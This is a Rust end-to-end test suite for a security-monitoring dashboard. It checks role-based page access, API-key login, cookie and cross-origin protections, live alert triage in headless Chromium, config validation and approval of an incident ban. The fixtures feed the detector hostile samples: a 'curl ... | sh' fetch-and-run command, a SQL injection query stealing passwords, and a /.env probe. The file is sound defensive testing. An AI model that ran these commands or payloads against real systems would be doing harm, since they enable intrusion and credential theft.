//! The web dashboard end to end: who may open which page, logging in with an API key,
//! and, in a real headless Chromium (Debian `chromium` and `chromium-driver`), an analyst
//! who sees a new alert arrive without reloading, acknowledges it and resolves others in
//! bulk (the API shows the changes), and an admin whose invalid configuration edit is
//! refused with the error next to the field. Screenshots of each step are saved in
//! `target/dashboard-screenshots/` (or `$WATCHPOST_SCREENSHOTS`).

mod common;

use common::Server;
use common::browser::{self, Browser};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::path::PathBuf;
use std::time::{Duration, Instant};
use watchpost_server::auth::Role;
use watchpost_server::auth::access::{Access, PAGES};

/// Where screenshots go: the test artifacts.
fn screenshots() -> PathBuf {
    std::env::var_os("WATCHPOST_SCREENSHOTS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../target/dashboard-screenshots")
        })
}

/// Whether the browser tests can run; under CI they must (`.ci/run` installs Chromium).
fn browser_installed() -> bool {
    if browser::installed().is_some() {
        return true;
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "CI installs chromium and chromium-driver (.ci/run)"
    );
    eprintln!("skipped: needs chromium and chromedriver (Debian chromium, chromium-driver)");
    false
}

/// A client that never follows redirects, to see them.
fn client() -> reqwest::Client {
    let _ = common::http();
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

async fn make_key(server: &Server, admin: &str, role: &str) -> String {
    let made: Value = client()
        .post(server.url("/api/v1/api-keys"))
        .header("x-api-key", admin)
        .json(&json!({"name": format!("{role}-person"), "role": role}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    made["key"].as_str().expect("a key").to_string()
}

/// A process event the built-in rules turn into a high alert on `host`.
async fn post_attack(server: &Server, key: &str, host: &str) {
    let posted = client()
        .post(server.url("/api/v1/events"))
        .header("x-api-key", key)
        .json(&json!([{"host": {"name": host}, "event": {"category": ["process"], "action": "exec"},
                       "process": {"pid": 4242, "command_line": "sh -c 'curl -s http://203.0.113.7/x | sh'",
                                   "parent": {"pid": 4000, "command_line": "/usr/sbin/cron -f"}}}]))
        .send()
        .await
        .unwrap();
    assert_eq!(posted.status(), StatusCode::OK);
}

async fn alert_of(server: &Server, key: &str, host: &str) -> Value {
    server
        .get_json_as(key, &format!("/api/v1/alerts?host={host}"))
        .await["items"][0]
        .clone()
}

/// The configuration as the API shows it.
async fn configuration(server: &Server, key: &str) -> Value {
    server.get_json_as(key, "/api/v1/config").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_need_a_login_and_the_role_the_page_table_names() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = Server::admin_key(dir.path());
    let viewer = make_key(&server, &admin, "viewer").await;
    let http = client();
    for (method, route, access) in PAGES {
        let Access::Page(needed) = access else {
            continue;
        };
        assert_eq!(*method, "GET");
        let path = route
            .replace("{id}", "00000000-0000-4000-8000-000000000000")
            .replace("{name}", "web-1");
        let anonymous = http.get(server.url(&path)).send().await.unwrap();
        assert_eq!(anonymous.status(), StatusCode::SEE_OTHER, "{path}");
        let location = anonymous.headers()["location"].to_str().unwrap();
        assert!(
            location.starts_with("/login?next=%2F"),
            "{path}: {location}"
        );
        for (key, role) in [(&viewer, Role::Viewer), (&admin, Role::Admin)] {
            let answer = http
                .get(server.url(&path))
                .header("x-api-key", key)
                .send()
                .await
                .unwrap();
            let expected = if role >= *needed {
                StatusCode::OK
            } else {
                StatusCode::FORBIDDEN
            };
            assert_eq!(answer.status(), expected, "{path} as {role:?}");
            let page = answer.text().await.unwrap();
            assert!(page.starts_with("<!doctype html>"), "{path}: {page}");
        }
    }
    // The assets need no login.
    let css = http
        .get(server.url("/assets/app.css"))
        .send()
        .await
        .unwrap();
    assert_eq!(css.status(), StatusCode::OK);
    assert!(
        css.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/css")
    );

    // Logging in: a wrong key is refused on the page; the right one sets the cookie.
    let refused = http
        .post(server.url("/login"))
        .header("origin", &server.base)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("api_key=wpk_nosuchkey_0000&next=%2Falerts")
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
    assert!(refused.text().await.unwrap().contains("id=\"login-error\""));
    let login = http
        .post(server.url("/login"))
        .header("origin", &server.base)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("api_key={viewer}&next=%2F%2Fevil.example%2F"))
        .send()
        .await
        .unwrap();
    assert_eq!(login.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        login.headers()["location"],
        "/",
        "only a local path is followed"
    );
    let cookie = login.headers()["set-cookie"].to_str().unwrap().to_string();
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(cookie.contains(attribute), "{cookie}");
    }
    let cookie = cookie.split(';').next().unwrap().to_string();
    let page = http
        .get(server.url("/alerts"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    // The cookie carries the key's role to the API too: a viewer may read, not triage.
    let read = http
        .get(server.url("/api/v1/alerts"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(read.status(), StatusCode::OK);
    // A change carried by the cookie must come from the server's own origin.
    let admin_login = http
        .post(server.url("/login"))
        .header("origin", &server.base)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("api_key={admin}&next=%2F"))
        .send()
        .await
        .unwrap();
    let admin_cookie = admin_login.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let host = server.base.trim_start_matches("http://").to_string();
    let change = |origin: Option<String>| {
        let mut request = http
            .put(server.url("/api/v1/rules/no-such-rule"))
            .header("cookie", &admin_cookie)
            .json(&json!({"enabled": false}));
        if let Some(origin) = origin {
            request = request.header("origin", origin);
        }
        request.send()
    };
    let cross: Value = change(Some("https://evil.example".into()))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(cross["error"]["code"], "cross_origin", "{cross}");
    assert_eq!(
        change(None).await.unwrap().status(),
        StatusCode::FORBIDDEN,
        "no Origin at all"
    );
    let own = change(Some(format!("http://{host}"))).await.unwrap();
    assert_eq!(
        own.status(),
        StatusCode::NOT_FOUND,
        "past the gate: no such rule"
    );
    // Logging out clears the cookie.
    let out = http
        .post(server.url("/logout"))
        .header("origin", &server.base)
        .send()
        .await
        .unwrap();
    assert!(
        out.headers()["set-cookie"]
            .to_str()
            .unwrap()
            .contains("Max-Age=0")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_analyst_sees_a_new_alert_live_and_triages_it_in_the_browser() {
    if !browser_installed() {
        return;
    }
    let shots = screenshots();
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let admin = Server::admin_key(dir.path());
    let analyst = make_key(&server, &admin, "analyst").await;
    let browser = Browser::start(1280, 900).await;
    let long = Duration::from_secs(20);

    // Login: the page asked for sends to the login form and back after.
    browser.goto(&server.url("/alerts")).await;
    let key_box = browser.wait_for("#api_key", long).await;
    assert!(
        browser
            .current_url()
            .await
            .contains("/login?next=%2Falerts")
    );
    browser.type_into(&key_box, "wpk_wrong_0000").await;
    browser
        .click(&browser.wait_for("button[type=submit]", long).await)
        .await;
    let error = browser.wait_for("#login-error", long).await;
    assert!(
        browser.text(&error).await.contains("API key"),
        "{}",
        browser.text(&error).await
    );
    browser.screenshot(&shots, "01-login-refused").await;
    let key_box = browser.wait_for("#api_key", long).await;
    browser.type_into(&key_box, &analyst).await;
    browser
        .click(&browser.wait_for("button[type=submit]", long).await)
        .await;
    browser
        .wait_until("the alerts page", "location.pathname === '/alerts'", long)
        .await;
    browser
        .wait_until(
            "the live stream to connect",
            "document.querySelector('[data-live-state]').textContent.includes('live')",
            long,
        )
        .await;
    browser.screenshot(&shots, "02-alerts-empty").await;

    // An event posted to the API becomes an alert on the open page, without a reload.
    browser.run("window.notReloaded = true;", json!([])).await;
    let posted = Instant::now();
    post_attack(&server, &analyst, "e2e-web-1").await;
    let row = "//tr[td[contains(., 'e2e-web-1')]]";
    browser.wait_for(row, long).await;
    let shown_after = posted.elapsed();
    println!("a new alert was on the open alerts page {shown_after:?} after its event was posted");
    assert_eq!(
        browser
            .run("return window.notReloaded === true;", json!([]))
            .await,
        json!(true),
        "the page was not reloaded"
    );
    browser.screenshot(&shots, "03-alert-arrived").await;

    // Acknowledge it in the page; the API shows the change, made by the analyst's key.
    let acknowledge = browser
        .wait_for(&format!("{row}//button[@data-action='acknowledged']"), long)
        .await;
    browser.click(&acknowledge).await;
    browser
        .wait_for(
            &format!("{row}//span[contains(@class, 'status-acknowledged')]"),
            long,
        )
        .await;
    let alert = alert_of(&server, &analyst, "e2e-web-1").await;
    assert_eq!(alert["status"], "acknowledged", "{alert}");
    assert!(
        alert["history"][0]["by"]
            .as_str()
            .is_some_and(|by| by.starts_with("analyst-person (wpk_")),
        "the acting key: {alert}"
    );
    browser.screenshot(&shots, "04-acknowledged").await;

    // Bulk: two more alerts, both selected, resolved with one click.
    post_attack(&server, &analyst, "e2e-bulk-1").await;
    post_attack(&server, &analyst, "e2e-bulk-2").await;
    for host in ["e2e-bulk-1", "e2e-bulk-2"] {
        let pick = browser
            .wait_for(
                &format!("//tr[td[contains(., '{host}')]]//input[@name='alert']"),
                long,
            )
            .await;
        browser.click(&pick).await;
    }
    browser
        .click(&browser.wait_for("button[data-bulk=resolved]", long).await)
        .await;
    for host in ["e2e-bulk-1", "e2e-bulk-2"] {
        browser
            .wait_for(
                &format!(
                    "//tr[td[contains(., '{host}')]]//span[contains(@class, 'status-resolved')]"
                ),
                long,
            )
            .await;
        assert_eq!(
            alert_of(&server, &analyst, host).await["status"],
            "resolved"
        );
    }
    browser.screenshot(&shots, "05-bulk-resolved").await;

    // The alert's page: its events with the process and its parent, and its trace.
    let link = browser
        .wait_for(&format!("{row}//a[contains(@href, '/alerts/')]"), long)
        .await;
    browser.click(&link).await;
    browser
        .wait_for(
            "//ol[contains(@class, 'ancestry')]//code[contains(., '/usr/sbin/cron -f')]",
            long,
        )
        .await;
    browser.wait_for("//h2[.='Pipeline trace']", long).await;
    browser.screenshot(&shots, "06-alert-detail").await;

    // The overview, open, shows a new firing alert without a reload too.
    browser.goto(&server.url("/")).await;
    browser.wait_for("#overview svg", long).await;
    browser
        .wait_until(
            "the live stream to connect",
            "document.querySelector('[data-live-state]').textContent.includes('live')",
            long,
        )
        .await;
    browser.run("window.notReloaded = true;", json!([])).await;
    let posted = Instant::now();
    post_attack(&server, &analyst, "e2e-web-2").await;
    browser
        .wait_for(
            "//section[h2='Firing alerts']//tr[td[contains(., 'e2e-web-2')]]",
            long,
        )
        .await;
    println!(
        "a new alert was on the open overview {:?} after its event was posted",
        posted.elapsed()
    );
    assert_eq!(
        browser
            .run("return window.notReloaded === true;", json!([]))
            .await,
        json!(true)
    );

    // The overview on a phone: nothing wider than the screen.
    browser.resize(390, 844).await;
    browser.goto(&server.url("/")).await;
    browser.wait_for("#overview svg", long).await;
    let overflow = browser
        .run(
            "return document.documentElement.scrollWidth - window.innerWidth;",
            json!([]),
        )
        .await;
    assert!(
        overflow.as_i64().unwrap() <= 1,
        "the overview is {overflow} px wider than a phone"
    );
    browser.screenshot(&shots, "07-overview-phone").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_invalid_configuration_edit_is_refused_with_the_error_at_the_field() {
    if !browser_installed() {
        return;
    }
    let shots = screenshots();
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(&config, "[web]\nparanoia = 1\n").unwrap();
    let server =
        Server::start_authenticated_with_flags(dir.path(), &["--config", config.to_str().unwrap()]);
    let admin = Server::admin_key(dir.path());
    let browser = Browser::start(1280, 1000).await;
    let long = Duration::from_secs(20);
    browser.goto(&server.url("/login?next=%2Fconfig")).await;
    browser
        .type_into(&browser.wait_for("#api_key", long).await, &admin)
        .await;
    browser
        .click(&browser.wait_for("button[type=submit]", long).await)
        .await;

    let paranoia = browser.wait_for("input[name='web.paranoia']", long).await;
    browser.type_into(&paranoia, "9").await;
    browser
        .click(
            &browser
                .wait_for("form.config button[type=submit]", long)
                .await,
        )
        .await;
    let error = browser
        .wait_for(
            "//div[@data-field='web.paranoia']//p[contains(@class, 'field-error')]",
            long,
        )
        .await;
    let message = browser.text(&error).await;
    assert!(message.contains("9 is out of range"), "{message}");
    assert_eq!(
        browser
            .run("return document.querySelector(\"[name='web.paranoia']\").getAttribute('aria-invalid');", json!([]))
            .await,
        json!("true")
    );
    browser.screenshot(&shots, "08-config-invalid").await;
    let shown = configuration(&server, &admin).await;
    assert_eq!(shown["config"]["web"]["paranoia"], 1, "nothing changed");

    // A valid value is written and applied.
    let paranoia = browser.wait_for("input[name='web.paranoia']", long).await;
    browser.type_into(&paranoia, "2").await;
    browser
        .click(
            &browser
                .wait_for("form.config button[type=submit]", long)
                .await,
        )
        .await;
    browser.wait_for("form.config [data-result].ok", long).await;
    common::eventually("the new paranoia level applied", || {
        let server = &server;
        let admin = &admin;
        async move { configuration(server, admin).await["config"]["web"]["paranoia"] == 2 }
    })
    .await;
    assert!(
        std::fs::read_to_string(&config)
            .unwrap()
            .contains("paranoia = 2")
    );
    browser.screenshot(&shots, "09-config-saved").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_analyst_reads_an_incidents_chain_and_approves_its_action_in_the_browser() {
    if !browser_installed() {
        return;
    }
    let shots = screenshots();
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(
        &config,
        "[[response.playbooks]]\nname = \"ban-web-attackers\"\nmode = \"approve\"\n\
         matchers = ['detector=\"web\"']\nactions = [{ kind = \"block_address\", ttl = \"1h\" }]\n",
    )
    .unwrap();
    let server =
        Server::start_authenticated_with_flags(dir.path(), &["--config", config.to_str().unwrap()]);
    let admin = Server::admin_key(dir.path());
    let analyst = make_key(&server, &admin, "analyst").await;
    // One attacker: SQL injection, then a decoy (reconnaissance after initial access).
    for (path, query) in [
        (
            "/search",
            "q=1%27%20union%20select%20password%20from%20users--",
        ),
        ("/.env", ""),
    ] {
        let analyzed = client()
            .post(server.url("/api/v1/ids/analyze"))
            .header("x-api-key", &analyst)
            .json(
                &json!({"method": "GET", "path": path, "query": query, "client_ip": "203.0.113.99",
                          "headers": {"user-agent": "Mozilla/5.0", "host": "shop.example"}}),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(analyzed.status(), StatusCode::OK);
    }
    let pending = {
        let mut found = Value::Null;
        for _ in 0..200 {
            found = server
                .get_json_as(&analyst, "/api/v1/actions?status=pending")
                .await["items"][0]
                .clone();
            if !found.is_null() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert!(!found.is_null(), "the playbook proposed a ban");
        found
    };

    let browser = Browser::start(1280, 1100).await;
    let long = Duration::from_secs(20);
    browser.goto(&server.url("/login?next=%2Fincidents")).await;
    browser
        .type_into(&browser.wait_for("#api_key", long).await, &analyst)
        .await;
    browser
        .click(&browser.wait_for("button[type=submit]", long).await)
        .await;
    let link = browser.wait_for("a[data-incident]", long).await;
    browser.screenshot(&shots, "20-incidents").await;
    browser.click(&link).await;
    // The chain is drawn along the kill chain: a lane per tactic, a mark per step.
    browser.wait_for("svg.chain", long).await;
    let lanes = browser
        .run(
            "return [...document.querySelectorAll('svg.chain [data-lane]')].map(e => e.textContent);",
            json!([]),
        )
        .await;
    assert_eq!(
        lanes,
        json!(["Reconnaissance", "Initial Access"]),
        "kill-chain order"
    );
    let marks = browser
        .run(
            "return document.querySelectorAll('svg.chain [data-step]').length;",
            json!([]),
        )
        .await;
    assert_eq!(marks, json!(2));
    browser.screenshot(&shots, "21-incident-chain").await;
    // The pending ban, approved in the page: done, by the analyst's key.
    let approve = browser
        .wait_for("#actions button[data-action='approve']", long)
        .await;
    browser.click(&approve).await;
    browser
        .wait_until(
            "the ban done",
            "[...document.querySelectorAll('#actions [data-state]')].some(e => e.textContent === 'done')",
            long,
        )
        .await;
    browser.screenshot(&shots, "22-incident-ban-approved").await;
    let id = pending["id"].as_str().unwrap();
    let done = server
        .get_json_as(&analyst, &format!("/api/v1/actions/{id}"))
        .await;
    assert_eq!(done["state"], "done", "{done}");
    let approved_by = done["history"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["what"] == "approved")
        .map(|s| s["by"].clone());
    assert_eq!(approved_by, Some(json!("api:analyst-person")), "{done}");
}
